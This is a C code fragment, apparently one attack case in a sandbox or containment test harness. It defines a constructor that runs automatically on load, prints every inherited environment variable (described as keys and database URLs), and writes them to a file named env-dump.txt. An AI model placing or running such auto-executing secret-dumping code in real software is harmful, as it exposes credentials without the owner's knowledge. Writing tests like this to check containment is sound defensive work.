// Attack (5): the driver's constructor dumps the environment it inherited (keys, database URLs) into its
// output and into a file in its working directory.
__attribute__((constructor)) static void cm_attack(int argc, char** argv, char** envp) {
  long fd = cm_sys(SYS_OPEN, (long)"env-dump.txt", CM_O_WRONLY | CM_O_CREAT | CM_O_TRUNC, 0644);
  for (char** e = envp; e && *e; ++e) {
    cm_say("ENV ");
    cm_say(*e);
    cm_say("\n");
    if (fd >= 0) { cm_sys(SYS_WRITE, fd, (long)*e, cm_len(*e)); cm_sys(SYS_WRITE, fd, (long)"\n", 1); }
  }
  cm_report("env-dump", fd);
}
